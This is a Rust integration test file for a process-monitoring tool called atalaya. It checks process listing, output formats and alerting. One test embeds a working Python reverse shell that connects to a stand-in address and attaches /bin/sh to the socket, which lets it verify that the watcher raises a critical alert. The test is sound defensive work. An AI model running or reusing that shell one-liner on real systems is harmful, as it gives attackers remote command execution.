//! `atalaya processes` beside a real watcher: what lives, what is over, what is unusual.

use serde_json::Value;

use crate::actor::{self, Actor};
use crate::configuration::configuration;
use crate::until;
use crate::watch::{ATALAYA, SOCKET, Watch};
use crate::world::World;

const AGENT: &str = "/usr/local/bin/agent";

/// What `processes` says with these flags.
fn ask(world: &World, flags: &[&str]) -> String {
    let here = [
        "processes",
        "--store",
        "atalaya.db",
        "--socket",
        SOCKET,
        "--lang",
        "en",
    ];
    let output = world
        .command(ATALAYA)
        .args([&here[..], flags].concat())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{flags:?}: {said}");
    String::from_utf8(output.stdout).unwrap()
}

/// The row of a process.
fn row(world: &World, flags: &[&str], pid: u32) -> Option<Value> {
    let text = ask(world, &[&["--output", "json"], flags].concat());
    let rows = text.lines().map(|line| serde_json::from_str(line).unwrap());
    rows.into_iter().find(|row: &Value| row["process"]["pid"] == pid)
}

/// Two joined worlds, with a server there that keeps what connects.
fn worlds() -> Option<(World, World, Actor)> {
    let here = World::new()?;
    let there = World::new()?;
    here.join(&there);
    for world in [&here, &there] {
        actor::install(world, AGENT, 1);
    }
    let mut server = Actor::start(&there, AGENT);
    server.act("listen 0.0.0.0 9999");
    Some((here, there, server))
}

#[test]
fn an_agent_is_listed_while_it_lives_and_remembered_when_it_is_gone() {
    let Some((here, _there, _server)) = worlds() else {
        return;
    };
    let hash = crate::program::sha256(here.outside(AGENT).to_str().unwrap());
    let mut watch = Watch::start(
        &here,
        &configuration(),
        &["--store", "atalaya.db", "--no-learning"],
    );
    let mut agent = Actor::start(&here, AGENT);
    agent.act("tcp 198.51.100.2 9999 3");
    agent.act("listen 127.0.0.1 7000");
    let pid = agent.inner_pid();
    let mut found = Value::Null;
    until("the watcher knows it with its hash", || {
        found = row(&here, &[], pid).unwrap_or_default();
        found["atalaya"]["usage"]["connections"]["open"] == 3
            && found["process"]["hash"]["sha256"] == hash.as_str()
    });
    assert_eq!(found["atalaya"]["usage"]["source"], "watcher");
    assert_eq!(found["process"]["executable"], AGENT);
    assert_eq!(found["atalaya"]["usage"]["listeners"][0]["port"], 7000);
    let tree = ask(&here, &["--tree"]);
    let line = tree.lines().find(|line| line.contains(AGENT)).unwrap_or_default();
    assert!(line.contains("3/3") && line.contains(&hash[..12]), "{tree}");
    let csv = ask(&here, &["--output", "csv", "--filter", "dport:9999"]);
    assert!(csv.lines().count() == 2 && csv.contains(AGENT), "{csv}");
    assert_eq!(row(&here, &["--past"], pid), None, "it lives");

    agent.program.signal("KILL");
    agent.program.wait();
    until("it is over", || {
        found = row(&here, &["--past", "--since", "1h"], pid).unwrap_or_default();
        found["process"]["end"].is_string() && found["atalaya"]["usage"]["connections"]["open"] == 0
    });
    let closed = found["atalaya"]["usage"]["connections"]["closed"].as_u64();
    assert!(closed >= Some(3), "{found}");
    assert!(row(&here, &[], pid).is_none(), "what lives now");
    assert_eq!(watch.end(), Some(0), "{}", watch.program.said());
    // The store alone still knows it.
    let past = ask(&here, &["--past", "--verbose"]);
    assert!(past.contains(AGENT) && past.contains(&hash), "{past}");
}

#[test]
fn a_shell_on_a_socket_is_an_alert_and_stands_out_in_the_list() {
    let Some((here, _there, _server)) = worlds() else {
        return;
    };
    let mut watch = Watch::start(
        &here,
        &configuration(),
        &["--store", "atalaya.db", "--no-learning"],
    );
    let script = "import socket, subprocess
connection = socket.create_connection(('198.51.100.2', 9999))
subprocess.run(['/bin/sh'], stdin=connection, stdout=connection, stderr=connection)";
    let mut command = here.command("python3");
    command.args(["-c", script]);
    let _intruder = here.start(command);
    let told = watch.expect("reverse_shell");
    assert_eq!(told.severity, "critical");
    let alert = watch
        .records()
        .into_iter()
        .find(|record| record["rule"]["name"] == "reverse_shell")
        .unwrap();
    assert_eq!(alert["atalaya"]["values"]["peer"], "198.51.100.2:9999", "{alert}");
    let parent = alert["atalaya"]["values"]["parent"].as_str().unwrap();
    assert!(parent.starts_with("python3"), "{alert}");
    let text = ask(
        &here,
        &["--all", "--filter", &format!("pid:{}", told.pid.unwrap())],
    );
    assert!(text.contains("socket as standard input"), "{text}");
    assert_eq!(watch.end(), Some(0));
}
